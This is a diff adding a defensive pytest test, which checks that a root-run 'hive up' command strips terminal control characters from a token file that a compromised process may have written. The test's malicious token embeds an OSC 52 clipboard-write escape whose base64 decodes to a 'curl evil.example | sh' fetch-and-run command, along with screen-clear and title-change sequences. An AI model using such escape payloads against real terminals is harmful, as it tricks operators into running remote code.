@@ -669,6 +669,30 @@ def test_the_legacy_users_links_and_fifos_give_root_nothing_to_chown(
     assert (h.state_dir / "hive.db").stat().st_uid == uid
 
 
+@pytest.mark.attack(
+    "surface.terminal-injection", ref="session 16: read_token, the core's file printed by root"
+)
+def test_the_token_the_core_wrote_reaches_roots_terminal_as_text_only(
+    pair: tuple[HiveProcess, HiveProcess],
+) -> None:
+    """``operator.token`` is the core's file; ``hive up`` (root, on the operator's
+    terminal) reads it back and prints the login URL with it. A compromised core writes a
+    token with terminal controls (OSC 52: set the clipboard to a command; a title; a
+    clear screen); the core started next keeps a non-empty token as it is. What ``hive
+    up`` prints must carry no control character."""
+    h = pair[1]
+    evil = "tok\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x07\x1b[2J\x1b]0;pwned\x07en"
+    as_ids(h.core_ids, "import json,sys; open(sys.argv[1],'w').write(sys.argv[2] + '\\n'); print(json.dumps(1))",
+           str(h.state_dir / "operator.token"), evil)  # fmt: skip
+    h.stop_clean()
+    seen = len(h.stdout_lines)
+    h.start()
+    ready = [line for line in h.stdout_lines[seen:] if line.startswith("hive: ready")]
+    assert ready, h.stdout_lines[seen:]
+    bad = [line for line in ready if any(ord(ch) < 0x20 or ord(ch) == 0x7F for ch in line)]
+    assert not bad, f"hive up printed the core's terminal controls: {bad!r}"
+
+
 LEFTOVER = r"""
 import time
 time.sleep(600)
